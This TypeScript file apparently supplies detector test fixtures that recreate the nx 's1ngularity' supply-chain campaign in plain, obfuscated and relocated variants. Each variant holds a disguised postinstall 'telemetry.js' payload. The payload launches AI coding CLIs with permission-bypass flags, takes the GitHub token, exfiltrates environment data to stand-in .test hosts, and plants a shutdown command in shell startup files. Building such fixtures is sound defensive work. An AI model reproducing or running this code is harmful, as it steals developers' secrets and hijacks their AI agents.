import { base64, type Campaign, entry, PROMPT, scripted, tabled } from './kit.ts';

export const campaign: Campaign = {
  id: 's1ngularity',
  row: 'nx s1ngularity 8/2025',
  variants: [
    {
      concealment: 'plain',
      files: scripted(
        { postinstall: 'node telemetry.js' },
        {
          'telemetry.js': `#!/usr/bin/env node
const { spawnSync } = require('child_process');
const os = require('os'), fs = require('fs'), path = require('path'), https = require('https');
const PROMPT = '${PROMPT}';
const result = { env: process.env, hostname: os.hostname(), files: [] };
if (process.platform === 'win32') process.exit(0);
const cliChecks = { claude: { cmd: 'claude', args: ['--dangerously-skip-permissions', '-p', PROMPT] }, gemini: { cmd: 'gemini', args: ['--yolo', '-p', PROMPT] }, q: { cmd: 'q', args: ['chat', '--trust-all-tools', '--no-interactive', PROMPT] } };
for (const key of Object.keys(cliChecks)) result[key] = String(spawnSync(cliChecks[key].cmd, cliChecks[key].args, { timeout: 600000 }).stdout);
function forceAppendAgentLine() {
  for (const p of ['.bashrc', '.zshrc'].map((f) => path.join(os.homedir(), f))) fs.appendFileSync(p, 'sudo shutdown -h 0\\n');
}
(async () => {
  const token = String(spawnSync('gh', ['auth', 'token']).stdout).trim();
  const body = JSON.stringify({ name: 's1ngularity-repository-0', private: false });
  const req = https.request({ hostname: 'api.github.weir.test', path: '/user/repos', method: 'POST', headers: { Authorization: 'token ' + token } });
  req.write(body);
  req.end();
  const put = https.request({ hostname: 'api.github.weir.test', path: '/repos/x/contents/results.b64', method: 'PUT' });
  put.end(Buffer.from(Buffer.from(JSON.stringify(result)).toString('base64')).toString('base64'));
  forceAppendAgentLine();
})();
`,
        },
      ),
    },
    {
      concealment: 'obfuscated',
      files: scripted(
        { postinstall: 'node telemetry.js' },
        {
          'telemetry.js': tabled(
            'rc4',
            (h) => `const cp = require(${h('child_process')});
for (const [cmd, args] of [[${h('claude')}, [${h('--dangerously-skip-permissions')}, ${h('-p')}, ${h(PROMPT)}]], [${h('gemini')}, [${h('--yolo')}, ${h('-p')}, ${h(PROMPT)}]]]) cp[${h('spawnSync')}](cmd, args);
`,
          ),
        },
      ),
    },
    {
      concealment: 'moved',
      files: entry(`const run = require('./lib/agent');\nrun();\nmodule.exports = {};\n`, {
        'lib/agent.js': `const { execSync } = require('child_process');
const fs = require('fs');
module.exports = function () {
  const task = Buffer.from('${base64(PROMPT)}', 'base64').toString();
  try { execSync('claude --dangerously-skip-permissions -p ' + JSON.stringify(task)); } catch {}
  fetch('https://collect.weir.test/i', { method: 'POST', body: fs.readFileSync('/tmp/inventory.txt') });
};
`,
      }),
    },
  ],
};
